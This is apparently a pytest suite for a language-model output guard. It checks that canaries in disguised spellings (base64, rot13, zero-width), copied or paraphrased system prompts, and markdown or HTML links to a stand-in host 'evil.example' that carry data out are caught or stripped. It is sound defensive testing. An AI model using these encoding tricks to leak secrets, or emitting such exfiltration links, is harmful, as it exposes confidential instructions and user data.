"""Canaries in any spelling, the system prompt itself, links that carry data away."""

from __future__ import annotations

import base64
import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from casemate.guard.output import OutputWatch
from casemate.guard.placeholders import Placeholders
from casemate.guard.redact import redact_text
from casemate.guard.stream import StreamRedactor
from casemate.guard.verdict import Action, Channel, GuardPolicy

NAMES = Placeholders(bytes(32))
POLICY = GuardPolicy(output_entities={"*": Action.REDACT})
CANARY = "k7q2x9z4m1p8w3"
PROMPT = (
    "You are the assistant of the restaurant Saffron. Never tell anyone the supplier of the truffles, which is the "
    "small farm of Bellomonte near the lake, and never offer more than twelve percent discount to groups of eight."
)


def run(text, watch, size=5):
    redactor = StreamRedactor(POLICY, NAMES, watch)
    out = ""
    for at in range(0, len(text), size):
        emission = redactor.feed(text[at : at + size])
        out += emission.text
        if emission.stop:
            return out, emission.stop
    emission = redactor.flush()
    return out + emission.text, emission.stop


SPELLINGS = {
    "plain": CANARY,
    "capitals": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "dashed": "-".join(CANARY),
    "reversed": CANARY[::-1],
    "rot13": codecs.encode(CANARY, "rot13"),
    "hex": CANARY.encode().hex(),
    "base64": base64.b64encode(CANARY.encode()).decode(),
    "base64 of a sentence": base64.b64encode(f"it is {CANARY}!".encode()).decode(),
    "base64, shifted": base64.b64encode(f"xy{CANARY}z".encode()).decode(),
    "base32": base64.b32encode(CANARY.encode()).decode(),
    "zero width": "\u200b".join(CANARY),
    "full width": "".join(chr(ord(c) + 0xFEE0) for c in CANARY),
    "most of it": CANARY[:12],
}


@pytest.mark.parametrize("name", SPELLINGS)
def test_a_canary_stops_the_stream_in_every_spelling(name):
    out, stop = run(f"Sure: {SPELLINGS[name]} is what it says", OutputWatch(canaries=(CANARY,)))
    assert stop == "canary"
    assert SPELLINGS[name][:14] not in out
    assert "says" not in out


def test_control_without_a_canary_it_comes_out():
    out, stop = run(f"Sure: {CANARY} is what it says", OutputWatch())
    assert CANARY in out
    assert stop is None


def test_a_copied_prompt_stops_the_stream_before_it_is_through():
    out, stop = run(f"My instructions are: {PROMPT}", OutputWatch(system_prompt=PROMPT))
    assert stop == "system-overlap"
    assert "truffles" not in out


def test_a_prompt_told_in_other_words_stops_the_stream():
    told = (
        "Well, I am an assistant for the restaurant called Saffron, told to never tell anyone who the supplier of the "
        "truffles is (a small farm, Bellomonte, near a lake), and never to offer a twelve percent discount or more to "
        "groups of eight."
    )
    assert run(told, OutputWatch(system_prompt=PROMPT))[1] == "system-overlap"


@pytest.mark.parametrize(
    "text",
    [
        "Welcome to Saffron! What would you like to eat today? We have a table for eight near the window.",
        "The restaurant is closed on Mondays, and groups of twelve should call before they come.",
    ],
)
def test_ordinary_answers_pass(text):
    assert run(text, OutputWatch(canaries=(CANARY,), system_prompt=PROMPT)) == (text, None)


def test_a_prompt_of_a_few_common_words_is_not_watched():
    text = "You are a helpful assistant."
    assert run(text, OutputWatch(system_prompt=text)) == (text, None)


@given(st.text(max_size=200))
def test_no_text_breaks_the_watch(text):
    assert run(text, OutputWatch(canaries=(CANARY,), system_prompt=PROMPT), size=9)[1] != "guard-error"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![map](http://evil.example/?q=abc)", "![map](#link-removed)"),
        ("[here](https://evil.example/x) ok", "[here](#link-removed) ok"),
        ("[a](//evil.example/x)", "[a](#link-removed)"),
        ("[a]( <https://evil.example/x> )", "[a]( <#link-removed> )"),
        ("[1]: https://evil.example/x\n", "[1]: #link-removed\n"),
        ('<img src="https://evil.example/x.png">', '<img src="#link-removed">'),
        ("<img src=//evil.example/x>", "<img src=#link-removed>"),
        ("url(https://evil.example/x)", "url(#link-removed)"),
        ("[a](javascript:alert)", "[a](#link-removed)"),
        ("[a](https://ok.example.evil.example/)", "[a](#link-removed)"),
        ("[a](https://ok.example@evil.example/)", "[a](#link-removed)"),
        ("[a](https://ok.example/x)", "[a](https://ok.example/x)"),
        ("![a](https://img.ok.example/x)", "![a](https://img.ok.example/x)"),
        ("[a](/local/page) and [b](#part)", "[a](/local/page) and [b](#part)"),
        ("see https://evil.example/x", "see https://evil.example/x"),
        ("a // comment", "a // comment"),
    ],
)
def test_links_lead_only_where_the_policy_says(text, expected):
    policy = GuardPolicy(output_entities={"*": Action.REDACT}, link_hosts=("ok.example",))
    assert redact_text(text, policy, Channel.OUTPUT, NAMES).text == expected
    redactor = StreamRedactor(policy, NAMES)
    assert "".join(redactor.feed(c).text for c in text) + redactor.flush().text == expected


def test_links_of_what_people_write_are_left_alone():
    text = "![map](http://evil.example/?q=abc)"
    assert redact_text(text, GuardPolicy(), Channel.USER, NAMES).text == text
